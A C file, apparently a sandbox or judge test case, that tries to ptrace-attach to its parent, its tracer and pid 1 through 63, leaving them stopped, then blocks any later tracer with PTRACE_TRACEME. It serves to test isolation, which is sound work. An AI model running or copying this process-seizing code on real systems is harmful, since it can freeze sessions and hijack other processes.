/* attack: traces its parent, pid 1 and its tracer with ptrace, and leaves them stopped
 * expect: nothing
 * slow: test after test runs into its limit
 */

/* A tracer owns its tracee: registers, memory, system calls. Ptrace also takes the only slot, so
 * a judge that attaches afterwards is refused. Holds for 30 s at most. */

#include <dirent.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

/* Outside a PID namespace of its own this would end the desktop of whoever runs it by hand. */
static bool caged(void) {
    char space[64] = "";
    int seen = 0;
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;)
        seen += e->d_name[0] >= '1' && e->d_name[0] <= '9';
    return readlink("/proc/self/ns/pid", space, sizeof space - 1) > 0 &&
           strcmp(space, "pid:[4026531836]") != 0 && seen < 40;
}

static pid_t tracer(void) {
    char line[256];
    int pid = 0;
    FILE *status = fopen("/proc/self/status", "r");
    while (status != NULL && fgets(line, sizeof line, status) != NULL)
        if (sscanf(line, "TracerPid: %d", &pid) == 1)
            break;
    return pid;
}

static void seize(pid_t pid) {
    if (pid > 0 && pid != getpid() && ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0)
        puts("SECRET traces a process that is not its own");
}

int main(void) {
    seize(getppid());
    seize(tracer());
    for (int pid = 1; caged() && pid < 64; pid++)
        seize(pid);
    ptrace(PTRACE_TRACEME, 0, NULL, NULL); /* and now nobody can attach to this one */
    fflush(stdout);
    sleep(30);
    return 0;
}
